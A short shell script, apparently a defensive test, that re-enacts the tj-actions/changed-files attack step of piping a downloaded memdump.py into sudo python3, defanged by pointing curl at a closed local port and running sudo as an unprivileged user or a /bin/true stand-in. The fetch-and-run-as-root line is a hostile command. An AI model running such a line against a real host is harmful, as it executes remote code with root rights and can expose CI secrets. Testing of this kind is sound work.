# A program downloaded and run as root from a pipe, as the tj-actions/
# changed-files payload ran memdump.py (curl ... | sudo python3).  curl
# goes to 127.0.0.1:9 (refused); sudo runs as nobody with no_new_privs
# (it refuses at once), or is a copy of /bin/true named sudo.
NOBODY="setpriv --reuid=65534 --regid=65534 --clear-groups --no-new-privs"
d=$(mktemp -d /home/runner/attack.XXXXXX)
trap 'rm -rf "$d"' EXIT
chmod 755 "$d"
if SUDO=$(command -v sudo); then
	:
else
	echo "sudo is not installed: a copy of /bin/true named sudo stands in"
	cp /bin/true "$d/sudo"
	SUDO=$d/sudo
fi
curl -s -m 2 http://127.0.0.1:9/memdump.py | $NOBODY "$SUDO" python3 > /dev/null 2>&1 || true
